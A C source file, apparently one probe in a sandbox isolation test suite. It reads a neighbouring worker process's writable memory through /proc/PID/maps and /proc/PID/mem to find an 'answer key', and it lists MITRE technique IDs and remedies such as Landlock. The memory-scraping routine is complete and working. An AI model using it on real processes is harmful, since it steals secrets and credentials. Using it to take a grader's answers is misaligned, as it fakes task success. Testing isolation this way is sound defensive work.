// SPDX-License-Identifier: MIT
/*
 * Goal:  the answer key, which the worker keeps on its heap.
 * Means: /proc/PID/maps tells where the writable memory is, /proc/PID/mem gives it out by pread(2).
 *        It is ptrace without the ptrace call: two files, opened and read.
 */
#include "attacks/proc-read/neighbours.h"

#include <fcntl.h>
#include <stdio.h>

#define MIB (1ul << 20)

static size_t budget = 64 * MIB;

/* Search [from, to). Steps overlap, so that an answer across two of them is not lost. */
static bool search(int mem, unsigned long from, unsigned long to)
{
	static char chunk[MIB];
	const unsigned long overlap = 64;

	while (from < to && budget >= sizeof(chunk)) {
		size_t want = to - from < sizeof(chunk) ? to - from : sizeof(chunk);
		ssize_t n = pread(mem, chunk, want, (off_t)from);

		budget -= want;
		if (n <= 0)
			return false;
		if (loot_answer(chunk, (size_t)n))
			return true;
		from += want == sizeof(chunk) ? want - overlap : want;
	}
	return false;
}

static bool rob(pid_t pid)
{
	unsigned long from, to;
	char path[64], line[512], perms[8];
	bool found = false;
	FILE *maps;
	int mem;

	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	mem = open(path, O_RDONLY | O_CLOEXEC);
	if (mem < 0)
		return false;
	snprintf(path, sizeof(path), "/proc/%d/maps", pid);
	maps = fopen(path, "re");
	while (maps && !found && fgets(line, sizeof(line), maps))
		if (sscanf(line, "%lx-%lx %7s", &from, &to, perms) == 3 && perms[1] == 'w')
			found = search(mem, from, to);
	if (maps)
		fclose(maps);
	close(mem);
	return found;
}

static enum claim run(const struct brief *b)
{
	attempting(b);
	return any_neighbour(b, rob) ? CLAIM_DONE : denied("/proc/PID/mem");
}

const struct attack attack = {
	.effect = "the worker's memory is read through /proc",
	.means = "/proc/PID/maps for the addresses, pread(2) of /proc/PID/mem for the bytes",
	.oracle = "secret:worker-memory",
	.quick = true,
	.id = "PEER-08",
	.attack_id = "T1057, T1003.007, CWE-200",
	.remedy = "Landlock (a domain may not trace its outside); a worker that is not dumpable",
	.refs = (const char *const[]){ "proc(5)", "landlock(7), Ptrace restrictions", NULL },
	.run = run,
};
